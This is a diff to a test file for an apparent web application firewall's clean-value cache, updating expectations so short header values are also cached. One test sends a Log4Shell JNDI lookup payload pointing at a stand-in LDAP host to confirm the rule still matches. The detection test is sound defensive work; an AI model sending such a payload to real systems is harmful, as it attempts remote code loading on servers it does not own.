@@ -69,12 +69,12 @@ void t.test('clean-value cache: long plain values (a bearer token) remembered, b
   const scan = new Scan();
   rules.inspect(scan, T_ANY_HEADER, token, S_HEADER, 'authorization');
   t.equal(scan.ids, null);
-  t.same(rules.cleanCache, { values: 1, chars: token.length }, 'the token is remembered after one gate pass');
+  t.same(rules.cleanCache, { values: 1, chars: token.length }, 'the token is remembered after one pass');
   rules.inspect(scan, T_ANY_HEADER, token, S_HEADER, 'authorization');
   t.same(rules.cleanCache, { values: 1, chars: token.length }, 'and found again, not stored twice');
-  // A short plain value is cheaper to gate than to look up: not remembered.
+  // Short values are remembered too: a lookup is cheaper than a pass of the prefilter.
   rules.inspect(scan, T_ANY_HEADER, 'gzip, br', S_HEADER, 'accept-encoding');
-  t.equal(rules.cleanCache.values, 1);
+  t.equal(rules.cleanCache.values, 2);
   // A long value that matches is never remembered, and still matches the second time.
   const attack = '${jndi:ldap://x.example/a}'.padEnd(600, ' x');
   for (let i = 0; i < 2; i++) {
@@ -82,7 +82,7 @@ void t.test('clean-value cache: long plain values (a bearer token) remembered, b
     rules.inspect(s, T_ANY_HEADER, attack, S_HEADER, 'x-api-version');
     t.ok(s.ids?.includes(944151), `log4shell matched (${i + 1})`);
   }
-  t.equal(rules.cleanCache.values, 1);
+  t.equal(rules.cleanCache.values, 2);
   // Many distinct 8 KB tokens: the characters held stay within 1 Mi (2 MiB of strings).
   for (let i = 0; i < 600; i++) rules.inspect(new Scan(), T_ANY_HEADER, `Bearer ${i}.`.padEnd(8192, 'k'), S_HEADER, 'authorization');
   t.ok(rules.cleanCache.chars <= 1024 * 1024, `${rules.cleanCache.chars} characters held`);
